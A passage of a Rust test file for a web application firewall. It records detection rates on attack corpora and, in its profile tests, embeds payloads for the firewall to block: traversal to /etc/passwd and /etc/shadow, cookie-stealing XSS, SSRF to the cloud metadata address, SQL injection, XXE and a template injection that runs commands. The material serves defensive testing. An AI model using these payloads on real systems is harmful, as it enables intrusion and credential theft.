    // stores, LDAP, XPath and XQuery, XXE in Office uploads; and those stacks' own traffic
    // (BI query definitions, Parse and Feathers filters, Elasticsearch queries). Written blind
    // on 2026-12-07. First sight with the rules of e2968b7: 651 of 677 attacks, 28 of 582
    // ordinary benign, 35 of 68 dev-content. Since: MariaDB's `/*M!…*/` executable comments,
    // a subquery operand in a path, stacked `CALL`/`EXPORT DATA`/`COPY` after a break-out,
    // JSON break-outs (generic-198), Redis `CONFIG SET dir` (generic-199), XQuery after a
    // closed predicate, Tornado's `handler.settings` and Go's `.Request.Header`, a bare
    // `instance_eval(`, and the XML parts of zip uploads (a `.docx` or `.xlsx` with an
    // external entity): 668. Let through: ClickHouse's `throwIf`, CQL's `token()` probe, a
    // BigQuery `ERROR()` in an `X-` header, a zsh glob qualifier, a Lucene query-string
    // break-out, GraphQL array batching, an absolute path to an app's config (GraphQL alias
    // batching of a login field: protocol-524 since the fourth session, 669). The
    // ordinary benign requests blocked are APIs that take Mongo operators, SQL or Kubernetes
    // objects by design (Parse, Feathers, Atlas, CouchDB, Druid, a CronJob), config uploads
    // with `${…}` lookups, WebDAV methods and Spring Cloud Gateway's routes.
    held_out_floors("dialects", 670, 6, 35, 26);
}

#[test]
fn edge_corpus_floors_at_paranoia_1() {
    // Exploits and mass scans against VPN gateways, firewalls, routers, cameras, NAS and the
    // software on them (`scripts/corpus-edge.py`: Fortinet, Ivanti, Palo Alto, Citrix, Cisco,
    // F5, Zyxel, D-Link, Hikvision, Dahua, QNAP, TeamCity, OFBiz, Confluence, Mirai droppers),
    // and those devices' management traffic (VPN clients, TR-069, ISAPI, NAS file managers).
    // Written blind on 2026-12-07. First sight with the rules of e2968b7: 278 of 317 attacks,
    // 16 of 418 ordinary benign, 41 of 90 dev-content. Since: format-string probes
    // (generic-197), web shells asked for by name (scanner-151), `Forwarded` on loopback
    // (protocol-attack-244/245), path parameters that fake an extension (`;.jsp`,
    // protocol-attack-246), code-loading environment variables as query names (`PHPRC`,
    // rce-192), a bare `../` value (lfi-111), commands in `SOAPAction`, letters double-encoded
    // in the path (protocol-311), and XML sent with a form's type read as XML: 288 and 12. Let
    // through: authentication bypasses whose request is ordinary (Ivanti EPMM, Hikvision's
    // `auth=` backdoor, Dahua's login types, OFBiz, TeamCity's `/RPC2`), overflow probes, and
    // config exports by product path. The ordinary benign requests blocked are a router's ping
    // tool, TR-069 informs with IP URLs, NAS file managers under `/etc` and `.ssh`, WebDAV,
    // Spring's gateway routes, Druid SQL and a Docker bind mount.
    held_out_floors("edge", 285, 29, 41, 12);
}

#[test]
fn realtime_corpus_floors_at_paranoia_1() {
    // Games, chat, streaming and collaborative apps (`scripts/corpus-realtime.py`):
    // socket.io and engine.io polling, SignalR, Matrix, Mattermost, Rocket.Chat, htmx, Turbo,
    // LiveView, gRPC-Web, Connect, Firebase, Supabase, WHIP, HLS, RCON panels, with the
    // attacks delivered through those channels. Written blind on 2026-12-07. First sight with
    // the rules of e2968b7: 372 of 375 attacks, 8 of 606 ordinary benign (WHIP's
    // `application/sdp`, a quoted search for "select your loadout"), 58 of 102 dev-content.
    // Since: WebRTC, DoH and PKI media types allowed, a phrase search's opening quote no
    // break-out, Consul service names (ssrf-121) and extension headers injected through a
    // push topic (crlf-101): 374 and none. Let through: a `$or` with `$exists` in a
    // leaderboard filter.
    held_out_floors("realtime", 370, 1, 58, 0);
}

#[test]
fn httpsem_corpus_floors_at_paranoia_1() {
    // HTTP semantics at the edges (`scripts/corpus-httpsem.py`): smuggling and desync framing,
    // host-header and cache poisoning, cache deception, method overrides, hop-by-hop abuse,
    // path normalisation tricks, open redirects, address spoofing, 403-bypass scanners; and
    // the unusual but legitimate requests of CDNs, SDKs and proxies (absolute-form targets,
    // ranges, conditionals, chunked uploads with extensions and trailers, S3's aws-chunked
    // uploads, h2c upgrades). Written blind on 2026-12-07. First sight with the rules of
    // e2968b7: 225 of 311 attacks, 11 of 373 ordinary benign, 24 of 66 dev-content. Since:
    // open redirects through a scheme-relative or slashless URL (generic-200/201), cache
    // deception after a path parameter (generic-202), unreserved characters percent-encoded
    // in the path (protocol-312), `Content-Type` or `Authorization` twice (protocol-245/246),
    // a path parameter on a dot or empty segment (protocol-attack-247), an unknown WebSocket
    // version (protocol-attack-248), and `Content-Encoding: aws-chunked` unframed: 245 and 9;
    // a Host that is not a host name and port (`shop.example:@evil.example`, two names:
    // protocol-247/248), Next.js's internal router headers, an HTTP/0.9 request line as the
    // body (protocol-attack-101) and escaped line breaks in a header (crlf-107): 253 and 9.
    // Let through, by
    // design or for want of configuration: a well-formed Host or `X-Forwarded-Host` that is
    // not the application's (the engine does not know its names; the proxy's `hosts`
    // allow-list refuses them, proxy/tests/hosts.rs), loopback client
    // addresses alone (a warning: protocol-attack-244), private addresses in client-address
    // headers, a full URL to another host in a redirect parameter, case and trailing-dot
    // variants of an admin path, oversized headers (the proxy's header limits refuse them
    // before the rules), `_method=PUT`.
    held_out_floors("httpsem", 300, 57, 24, 8);
}

#[test]
fn wrapped_corpus_floors_at_paranoia_1() {
    // Attacks wrapped in the containers applications unwrap (`scripts/corpus-wrapped.py`):
    // base64 and base64url in query, form, cookie and path values, JWT claims, JSON in form
    // fields and cookies, XML in JSON and JSON in CDATA, multipart parts with their own
    // Content-Transfer-Encoding, gzip bodies, CSV/TSV, YAML, NDJSON, GraphQL variables,
    // JSON-RPC, SOAP, nested and triple URL encoding, HTML entities and `\u` escapes, hex;
    // and the same containers' legitimate traffic. Written blind on 2026-12-07. First sight
    // with the rules of 989228b: 275 of 301 attacks, 15 of 380 ordinary benign, 29 of 70
    // dev-content. Since: base64 cookies judged decoded (their JSON values and XML values
    // too), a billion-laughs document inside an argument (xxe-200): 282 and 15; JSON Web
    // Tokens' claims and hex-encoded text judged decoded: 294 and 15; base64 inside base64
    // and zlib inside base64 unwrapped: 296. Let through: HTML entities in a JSON string,
    // GraphQL introspection, base64 of a header injection (text of several lines), a
    // base64 part inside a MIME webhook, a base64 YAML document inside JSON. The ordinary
    // benign requests blocked are by design: Parse-style `where` documents with `$gt`/`$in`
    // in the query (proxy/profiles has the exclusion), SVG markup in a JSON string, an LSP
    // `file://` URI. On 2026-12-07 (sixth session) multipart parts with a base64 or
    // quoted-printable Content-Transfer-Encoding became decoded and judged instead of
    // blocked (multipart-101 names the header at PL2): 8 fewer blocked, and a
    // quoted-printable `.sh` upload with `curl … | sh` in it let through, as the same file
    // uploaded plainly is.
    held_out_floors("wrapped", 290, 6, 29, 7);
}

#[test]
fn cluster_corpus_floors_at_paranoia_1() {
    // The consoles and APIs of a Kubernetes platform (`scripts/corpus-cluster.py`): Grafana,
    // Prometheus and Alertmanager, Kibana, Argo CD and Workflows, Jenkins, GitLab and Gitea,
    // Harbor, Vault, Keycloak, Consul and etcd, Envoy and Istio admin, Spring actuators, the
    // API server's proxies and the kubelet. Written blind on 2026-12-07. First sight with
    // the rules of 317c6b6: 328 of 338 attacks, 2 of 403 ordinary benign, 30 of 69
    // dev-content. Since: Vault's `LIST` and HTTP's `QUERY` methods allowed, mount points
    // not read as system paths (lfi-260), the kubelet's API (scanner-152): 330 and 0. Let
    // through: a Helm `lookup` in an Argo CD parameter, API-server front-proxy identity
    // headers (`X-Remote-Group: system:masters`, which the API server itself sends to
    // aggregated servers), password-reset poisoning through `X-Forwarded-Host` (the proxy's
    // host allow-list refuses it), `/pods` and etcd's `/v2/keys` and the API server's secret
    // list (what consoles and etcd's own clients call), an in-cluster webhook URL in a
    // ConfigMap. Later the same day a GraphQL document aliasing one login field five times
    // or more became an anomaly (protocol-524): 331.
    held_out_floors("cluster", 330, 7, 30, 0);
}

#[test]
fn parsers_corpus_floors_at_paranoia_1() {
    // Parsing-discrepancy evasions (`scripts/corpus-parsers.py`): multipart, JSON, form, XML
    // and HTTP-level quirks on which a WAF's parser and a framework's disagree (WAFFLED,
    // 2025), each carrying a working attack on Express, Flask, Django, FastAPI, Spring,
    // ASP.NET Core, Laravel, Rails or Go; and the unusual but valid forms real clients send
    // (every browser's and SDK's multipart, .NET's BOM and encoded-word file names, JSON:API,
    // nested and repeated parameters, legacy charsets, chunked uploads, property lists).
    // Written blind on 2026-12-07. First sight with the rules of 317c6b6: 335 of 339 attacks,
    // 8 of 382 ordinary benign, 33 of 67 dev-content. Since: two Content-Disposition headers
    // in a part an anomaly, XML text and CDATA run together, JSON sent as a form read as
    // JSON, RFC 2047 file names decoded and a `;` before a space allowed in them
    // (multipart-125), file names judged by the SQL and XSS tokenizers, Apple property lists
    // read as XML: 339 and 0.
    held_out_floors("parsers", 330, 0, 33, 0);
}

#[test]
fn carriers_corpus_floors_at_paranoia_1() {
    // Attacks in the parts of a request WAFs inspect least (`scripts/corpus-carriers.py`):
    // logged and trusted headers (X-Request-ID, Via, From, Accept-Language, Forwarded, the
    // URL-override and IP headers), cookie names and encoded values, query names, JSON keys,
    // XML attributes, multipart part headers, matrix parameters, values split over two
    // fields; beside traffic whose headers, cookies and keys are rich and odd (trace context,
    // SigV4, SAS, consent cookies, JSON-LD and OData keys, PostgREST's `Range: 0-24`, `<a
    // ping>`). Written blind on 2026-12-07. First sight with the rules of 88dda01: 318 of
    // 344 attacks, 25 of 389 ordinary benign, 36 of 73 dev-content. Since: `text/ping`
    // allowed, ranges in other units and PostgREST's unit-less one, matrix parameters several
    // segments before a file name (generic-202), an `X-Original-URL` that repeats the request
    // target (protocol-attack-231): 318 and 10 (three WebDAV methods, seven multipart parts
    // with `Content-Transfer-Encoding: base64`). Then the SQL, PHP, XSS, NoSQL and expression
    // rules read `X-` headers, and those and the command, file-inclusion and template rules
    // read Via, From, Forwarded, Accept-Language and Content-Language; a Basic credential's
    // user name is an argument; an `X-Forwarded-Prefix` that is not a plain path is an open
    // redirect (generic-205): 328 and 10. Then (2026-12-07, sixth session) multipart parts'
    // transfer encodings decoded, not blocked; matrix parameters' values judged as query
    // arguments; signed session cookies' payloads (Rails `data--digest`, Flask, Django) and
    // base64 `<?php` text (no XML document) judged decoded; Commons Text lookups in base64
    // (java-153); a metadata host in `Forwarded`; a header name ending a mail-header field
    // (crlf-104); a DDE formula whose cell is in the next field (generic-160); a bearer
    // token carrying its own key (generic-206): 337 and 3 (the WebDAV methods).
    held_out_floors("carriers", 340, 7, 36, 3);
}

#[test]
fn clientside_corpus_floors_at_paranoia_1() {
    // The browser-side attack family (`scripts/corpus-clientside.py`): HTML5, SVG and MathML
    // vectors with newer handlers, mutation XSS, obfuscated script URLs, dangling markup, CSS
    // injection and exfiltration, client-side template injection (AngularJS, Vue, Alpine,
    // htmx), DOM clobbering, prototype pollution, JSONP callbacks, open redirects; beside
    // editor HTML, page-builder JSON, HTML e-mail, SVG icons, CSS themes, error and CSP
    // reports. Written blind on 2026-12-07. First sight with the rules of 5c76b55: 357 of
    // 381 attacks, 4 of 377 ordinary benign, 42 of 65 dev-content. Then dangling markup
    // (xss-064), CSS that closes its block and fetches (xss-065), DOM clobbering with a
    // script URL (xss-066), a sink referenced without a call (xss-067), htmx requests to
    // another host (xss-068), SVG `<set attributeName=on…>` and `<handler ev:event>`, a
    // redirect naming this site behind `#@` or in its userinfo (generic-203), a doctype no
    // script for libinjection, stack frames' script URLs no remote inclusion: 379 and 2 (a
    // WordPress customizer's CSS with an SVG `data:` URL, a `window.onerror` report whose
    // JSON-parse message and script URL add up).
    held_out_floors("clientside", 370, 2, 42, 2);
}

#[test]
fn publicsector_corpus_floors_at_paranoia_1() {
    // Government, legal and document-workflow services (`scripts/corpus-publicsector.py`):
    // benefit and permit forms, tax filings, court e-filing and case-law search with boolean
    // and proximity syntax, FOI requests in long prose full of SQL's words, CMIS and SoQL
    // queries, WebDAV document stores, converters; attacks in the same fields. Written blind
    // on 2026-12-07. First sight with the rules of 5c76b55: 380 of 385 attacks, 24 of 369
    // ordinary benign, 25 of 63 dev-content. Then a plural possessive before "union"
    // (`teachers' union`) and a phrase search's quoted `"union"` no break-out (sqli-022),
    // a session token with `--` in it no SQL comment, Ghostscript's pipe device in a
    // converter parameter (rce-168), ASP.NET directives (generic-207): 382 and 12 (WebDAV
    // methods and its `If` header, refused by design until a route allows them). Let through:
    // a remote XSLT in a stylesheet loader's `href` (rfi-140 warns; `href` is too common a
    // name for a URL to count), a password-reset request with forwarded-host headers naming
    // another site. (A request smuggled after the last chunk is caught since the seventh
    // session of 2026-12-07: protocol-attack-041.)
    held_out_floors("publicsector", 380, 3, 25, 12);
}

#[test]
fn logistics_corpus_floors_at_paranoia_1() {
    // Supply-chain, freight and warehouse applications (`scripts/corpus-logistics.py`): AS2
    // gateways posting X12 and EDIFACT, HL7 v2, GS1 barcodes, warehouse CSV manifests, UBL
    // customs XML, SAP IDoc and OData filters, driver apps' proof-of-delivery uploads; benign
    // traffic dense with EDI punctuation (`* ~ ' + : ? | ^ &`). Written blind on 2026-12-07.
    // First sight with the rules of e52c15c: 327 of 336 attacks, 3 of 364 ordinary benign,
    // 24 of 67 dev-content (CRS 3.3.4 at PL1 on the same requests: 242 attacks, 140
    // ordinary benign). Then interpreters' names read in lower case after a pipe (`N1|SH|`
    // is an X12 field, rce-122), SSRF in AS2's receipt headers (`Receipt-Delivery-Option`),
    // a template URL with `?cmd=` (rfi-140), data after the last chunk
    // (protocol-attack-041): 333 and 0. Let through: three admin-console paths probed
    // without a scanner's signature.
    held_out_floors("logistics", 330, 4, 26, 1);
}

#[test]
fn telecom_corpus_floors_at_paranoia_1() {
    // Telecom and communications platforms (`scripts/corpus-telecom.py`): SMS gateways and
    // delivery receipts, voice XML, SIP provisioning, USSD menus, number lookups, CDR
    // uploads, WebRTC SDP, router snippets in tickets. Written blind on 2026-12-07. First
    // sight with the rules of e52c15c: 332 of 344 attacks, 6 of 370 ordinary benign, 27 of 65
    // dev-content (CRS: 264 attacks, 58 ordinary benign). Then a SIP or mail header after a
    // line break in an address (crlf-108), a method override to TRACE (protocol-217), data
    // after the last chunk, and generic session names in a form a warning unless posted from
    // another site (session-105 / session-201: USSD gateways post a `sessionId`): 338 and 0.
    // A DDE formula in a pipe-separated file (a pipe starts a cell too: generic-163) since the
    // eighth session. Let through: four telephony admin paths, a `$or` tautology with `$ne`.
    held_out_floors("telecom", 340, 7, 29, 1);
}

#[test]
fn gaming_corpus_floors_at_paranoia_1() {
    // Online game backends and their communities (`scripts/corpus-gaming.py`): logins,
    // leaderboards, chat full of slang and emoticons, guild forums, the store, mod uploads,
    // replays, RCON-style admin panels, a game wiki. Written blind on 2026-12-07. First
    // sight with the rules of e52c15c: 373 of 380 attacks, 2 of 358 ordinary benign, 16 of 63
    // dev-content. Then a reverse shell in an uploaded script (rce-131), an old-format tar
    // member climbing out of its directory inside a form (lfi-270), data after the last
    // chunk: 376 and 2 (a forum list quoting a team called "Select * From Losers", a wiki
    // table cell `"Cat" / "Short"`). `/dump.rdb` since the eighth session (lfi-321). Let
    // through: a server browser's probe of an internal Redis address, two admin paths.
    held_out_floors("gaming", 375, 5, 18, 3);
}

#[test]
fn web3_corpus_floors_at_paranoia_1() {
    // Blockchain and crypto-asset backends (`scripts/corpus-web3.py`): JSON-RPC gateways,
    // wallets and Sign-In with Ethereum, NFT marketplaces, exchange APIs, block explorers,
    // DeFi GraphQL subgraphs, KYC uploads; benign traffic dense with hex, base58 and
    // signatures. Written blind on 2026-12-07. First sight with the rules of d7c2d19: 352 of
    // 372 attacks, 5 of 374 ordinary benign, 13 of 64 dev-content (CRS: 270 attacks, 35
    // ordinary benign). Then node administration methods over JSON-RPC (generic-174), wallet
    // and key-store paths (lfi-325), circular GraphQL queries, fragment cycles and sign-ins
    // batched or aliased (protocol-524..526), inline SVG pictures judged as documents, and
    // on-chain `data:application/json` token URIs (ssrf-107): 370 and 0. Let through: an
    // introspection query to an internal path (PL2), `eth_sendTransaction` (wallet nodes take
    // it on purpose).
    held_out_floors("web3", 368, 3, 15, 1);
}

#[test]
fn industrial_corpus_floors_at_paranoia_1() {
    // Industrial, energy and building-automation consoles (`scripts/corpus-industrial.py`):
    // SCADA/HMI tags and alarms, historians, EV charging (OCPP), meters and inverters,
    // BACnet, PLC project files, Node-RED, router and gateway web UIs with their diagnostics
    // forms. Written blind on 2026-12-07. First sight with the rules of d7c2d19: 351 of 366
    // attacks, 0 of 322 ordinary benign, 14 of 60 dev-content (CRS: 281 attacks, 37 ordinary
    // benign). Then router commands after a separator or in a substitution (`nvram`,
    // `telnetd`, `` `reboot` ``: rce-100, rce-140) and a subquery in the path (sqli-307): 355
    // and 0. Let through: logins with devices' default credentials (nine; a scanner's list,
    // and an administrator's first login), `X-Forwarded-Host` on a password reset, a
    // registration that sets `isAdmin`.
    held_out_floors("industrial", 360, 12, 16, 1);
}

#[test]
fn lowcode_corpus_floors_at_paranoia_1() {
    // Low-code platforms, form builders, spreadsheets and workflow automation
    // (`scripts/corpus-lowcode.py`): public form submissions, cell updates with formulas,
    // view filters, code steps and templates the builders' users write. Written blind on
    // 2026-12-07. First sight with the rules of d7c2d19: 355 of 359 attacks, 0 of 367
    // ordinary benign, 12 of 71 dev-content (CRS: 247 attacks, 55 ordinary benign). Then
    // spreadsheet formulas that send cells away through any function of them (generic-162:
    // `JOIN(",",A1:Z50)`, after an `IMPORTRANGE`) and an injected password form that posts
    // elsewhere (xss-069): 358 and 0. Let through: `{"owner": {"$ne": null}}` under a
    // `filter` (query APIs take it on purpose).
    held_out_floors("lowcode", 355, 2, 14, 1);
}

#[test]
fn blind_corpus_floors_at_paranoia_1() {
    // Blind and out-of-band exploitation (`scripts/corpus-blind.py`): time-based and
    // inference SQL injection for every database, out-of-band SQL, blind command injection,
    // OOB XXE, callbacks to OAST collectors, blind SSTI, JNDI and XSS loaders; and traffic
    // full of the same words (sleep trackers, retry and timeout settings, uptime monitors,
    // webhook set-ups, benchmark dashboards). Written blind on 2026-12-07. First sight with
    // 56848f0: 310 of 316 attacks, 7 of 383 ordinary benign, 39 of 71 dev-content. Since:
    // `GET_LOCK`, `pg_sleep_for` and `dbms_session.sleep`, `sleep(` only where an SQL
    // expression can stand (sqli-050: not "the sleep(1) in the poller"), a wait or `timeout`
    // after a shell separator with quoting undone (rce-100): 313 and 6. Let through: request
    // collectors (Pipedream, webhook.site) in a URL parameter (scanner-210, PL2: webhook
    // set-ups name them), `|sleep 10.pdf`. Blocked by design: OTLP spans' `db.statement`
    // (5; the telemetry profile clears them) and an uptime monitor's URL to an IP address
    // (rfi-100).
    held_out_floors("blind", 310, 3, 39, 6);
}

/// The object-storage profile (`proxy/profiles/object-storage.yaml`) opens an object store's
/// keys (the path, the listing and copy parameters, DeleteObjects' keys, event records'
/// keys) for the rules on files requested by name, S3 Select's expression for the SQL rules,
/// and notification targets for the in-cluster URL rule; traversal, XXE, SSRF, XSS and
/// CRLF stay judged there, and object content by every rule.
#[test]
fn object_storage_profile_opens_keys_only() {
    let cfg = profile("object-storage");
    let wrongly = benign_blocked("storage", &cfg, false);
    // 2026-12-06: 48 blocked without the profile, 13 with it (12 of them the one sentence
    // with "; drop table tennis", one a Velero backup document with its hook commands).
    assert!(
        wrongly.len() <= 13,
        "{} blocked: {wrongly:?}",
        wrongly.len()
    );
    assert_eq!(
        attacks_missed("storage", &cfg),
        attacks_missed("storage", &EvalConfig::default()),
        "the profile lets an attack through"
    );
    let get = |path: &str| format!("GET {path} HTTP/1.1\r\nHost: minio\r\n\r\n").into_bytes();
    let opened = get("/backups/mysql/2024-05-17/shop.sql.gz");
    assert!(blocks(&opened, &EvalConfig::default()));
    assert!(!blocks(&opened, &cfg));
    assert!(!blocks(&get("/home/eva/.bashrc"), &cfg));
    let select = "<SelectObjectContentRequest><Expression>SELECT s.name FROM S3Object s WHERE s.age &gt; 30 UNION SELECT s.email FROM S3Object s</Expression><ExpressionType>SQL</ExpressionType></SelectObjectContentRequest>";
    let select = format!(
        "POST /people/people.csv?select&select-type=2 HTTP/1.1\r\nHost: minio\r\nContent-Type: application/xml\r\nContent-Length: {}\r\n\r\n{select}",
        select.len()
    );
    assert!(!blocks(select.as_bytes(), &cfg));
    // What stays judged: traversal in a key, a system file through the copy source, XXE in
    // DeleteObjects, XSS in a key, CRLF in a response override, the metadata address as a
    // notification target, SQL in any other field.
    for attack in [
        get("/backups/..%2f..%2f..%2fetc%2fpasswd"),
        b"PUT /b/copy HTTP/1.1\r\nHost: minio\r\nx-amz-copy-source: /b/../../../../etc/shadow\r\n\r\n".to_vec(),
        get("/b/%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E.png"),
        get("/b/a.pdf?response-content-disposition=attachment%0d%0aSet-Cookie:%20sid=1"),
        json_post(
            "/api/v1/admin/notification_endpoints",
            r#"{"service":"webhook","properties":{"endpoint":"http://169.254.169.254/latest/meta-data/iam/"}}"#,
        ),
        json_post("/api/v1/buckets", r#"{"name":"x' UNION SELECT password FROM users--"}"#),
    ] {
        assert!(blocks(&attack, &cfg), "{}", String::from_utf8_lossy(&attack));
    }
    let xxe = r#"<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><Delete><Object><Key>&x;</Key></Object></Delete>"#;
    let xxe = format!(
        "POST /b?delete HTTP/1.1\r\nHost: minio\r\nContent-Type: application/xml\r\nContent-Length: {}\r\n\r\n{xxe}",
        xxe.len()
    );
    assert!(blocks(xxe.as_bytes(), &cfg));
}

/// The package-registry profile (`proxy/profiles/package-registry.yaml`) opens npm's and
/// PyPI's README and description fields (and npm's lifecycle scripts, to the command-line
/// rule only) to the classes a stored document cannot carry out, and Artifactory's AQL to
/// the NoSQL rules: the registry corpus's publishes pass, none of its attacks gets through,
/// and XSS in a README or SQL injection in any other field is still blocked.
#[test]
fn package_registry_profile_opens_readmes_only() {
    let cfg = profile("package-registry");
    let wrongly = benign_blocked("registry", &cfg, false);
    // 2026-12-06: 31 ordinary requests blocked without the profile, 1 with it (a push
    // webhook whose changed file is `docs/../README.md`).
    assert!(wrongly.len() <= 1, "{} blocked: {wrongly:?}", wrongly.len());
    for name in ["registry", "devops", "cves", "bypass"] {
        assert_eq!(
            attacks_missed(name, &cfg),
            attacks_missed(name, &EvalConfig::default()),
            "{name}: the profile lets an attack through"
        );
    }
    let publish = |readme: &str, license: &str| {
        let name = "left-pad";
        let body = serde_json::json!({
            "_id": name, "name": name,
            "versions": {"1.0.0": {"name": name, "version": "1.0.0", "readme": readme, "license": license}},
            "readme": readme,
        });
        format!(
            "PUT /{name} HTTP/1.1\r\nHost: registry.test\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
            body.to_string().len()
        )
        .into_bytes()
    };
    let readme = "# left-pad\n\n```js\nconst pad = require('../lib/pad');\nconsole.log(pad('5', 3, '0'));\nexec(`git describe --tags`);\n```\n\nSee `SELECT name FROM users WHERE id = 1` for the driver.";
    assert!(blocks(&publish(readme, "MIT"), &EvalConfig::default()));
    assert!(!blocks(&publish(readme, "MIT"), &cfg));
    // XSS in the README (the registry renders it), SQL injection in another field.
    assert!(blocks(
        &publish("[docs](javascript:alert(document.cookie))", "MIT"),
        &cfg
    ));
    assert!(!blocks(&publish("# x", "MIT"), &EvalConfig::default()));
    assert!(blocks(
        &publish("# x", "MIT' UNION SELECT password FROM users--"),
        &cfg
    ));
}

/// HR and recruiting, travel and booking, government e-services, real estate (résumés and
/// cover letters, Boolean job searches, IATA codes and PNRs, NDC XML, tax forms, RESO OData
/// filters). Written without reading the rules (2026-12-05, fifth session).
#[test]
fn hrtravel_corpus_floors_at_paranoia_1() {
    // First sight (rules and engine of cda46ff): 271 of 275 attacks blocked (98.5 %), none of
    // 519 ordinary benign, 33 of 50 dev-content (SQL in a reporting tool, shell in DevOps job
    // posts). Let through: `php://input` and a serialized object inside uploaded files'
    // contents, a cluster-internal callback URL (PL2), a complete LDAP filter as a directory
    // search.
    held_out_floors("hrtravel", 260, 2, 33, 0);
}

/// The LLM inference profile (`proxy/profiles/llm-inference.yaml`) lets prompts about code
/// through on inference routes, and keeps what those routes still guard: the model name, XSS
/// and template injection in messages.
#[test]
fn llm_inference_profile_lets_prompts_about_code_through() {
    let cfg = profile("llm-inference");
    // 2026-12-05: 46 of 68 prompts and documents about code blocked without the profile, 19
    // with it (HTML and script snippets: XSS stays on).
    assert_eq!(benign_blocked("aiml", &cfg, false), Vec::<String>::new());
    let dev = benign_blocked("aiml", &cfg, true);
    assert!(dev.len() <= 19, "{} dev-content blocked", dev.len());
    let missed = attacks_missed("aiml", &cfg);
    // (The 11 more are tool calls in a chat history: the inference server runs none of them.)
    assert!(
        missed <= 18,
        "{missed} attacks let through with the profile"
    );
    let judge = |body: &str| blocks(&json_post("/v1/chat/completions", body), &cfg);
    let chat = |model: &str, content: &str| {
        serde_json::json!({"model": model, "messages": [{"role": "user", "content": content}]})
            .to_string()
    };
    assert!(!judge(&chat(
        "llama-3.1-8b",
        "Why is `SELECT * FROM users WHERE name = '' OR '1'='1'` dangerous, and what does `cat /etc/passwd; rm -rf /tmp/x` do?"
    )));
    assert!(
        judge(&chat("../../../../proc/self/environ", "hi")),
        "model path"
    );
    assert!(
        judge(&chat(
            "llama-3.1-8b",
            "<img src=x onerror=alert(document.cookie)>"
        )),
        "XSS"
    );
    assert!(
        judge(&chat(
            "llama-3.1-8b",
            "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
        )),
        "SSTI"
    );
}

#[test]
fn long_prose_bodies_pass_at_paranoia_1() {
    // Held-out benign text in none of the corpora: the licence texts every Debian and Ubuntu
    // machine carries (`base-files`), posted as 64 KB `text/plain` bodies. Long prose is where
    // rules written for short argument values misfire: words that are also function or
    // command names, line-wrapped parentheses, GNU-style `quotes'.
    let dir = PathBuf::from("/usr/share/common-licenses");
    let Ok(entries) = std::fs::read_dir(&dir) else {
        eprintln!("SKIP: {} not found", dir.display());
        return;
    };
    let mut names: Vec<PathBuf> = entries.map(|e| e.unwrap().path()).collect();
    names.sort();
    let mut text = Vec::new();
    for path in &names {
        if let Ok(t) = std::fs::read(path) {
            text.extend(t);
            text.push(b'\n');
        }
    }
    let set = builtin();
    let cfg = EvalConfig::default();
    let mut blocked = Vec::new();
    let mut bodies = 0;
    for chunk in text.chunks(64 * 1024).filter(|c| c.len() > 1024) {
        let mut raw = format!(
            "POST /comments HTTP/1.1\r\nHost: shop.example\r\nContent-Type: text/plain\r\nContent-Length: {}\r\n\r\n",
            chunk.len()
        )
        .into_bytes();
        raw.extend_from_slice(chunk);
        let v = set.evaluate(
            &httpraw::parse_request(&raw, Limits::default(), 1 << 20),
            &cfg,
        );
        bodies += 1;
        if v.is_block() {
            blocked.extend(
                v.matches
                    .iter()
                    .map(|m| format!("body {bodies}: {} {}", m.rule.id, m.fragment)),
            );
        }
    }
    eprintln!("{bodies} licence-text bodies judged at paranoia 1");
    assert!(bodies > 0);
    assert!(blocked.is_empty(), "prose blocked:\n{}", blocked.join("\n"));
}
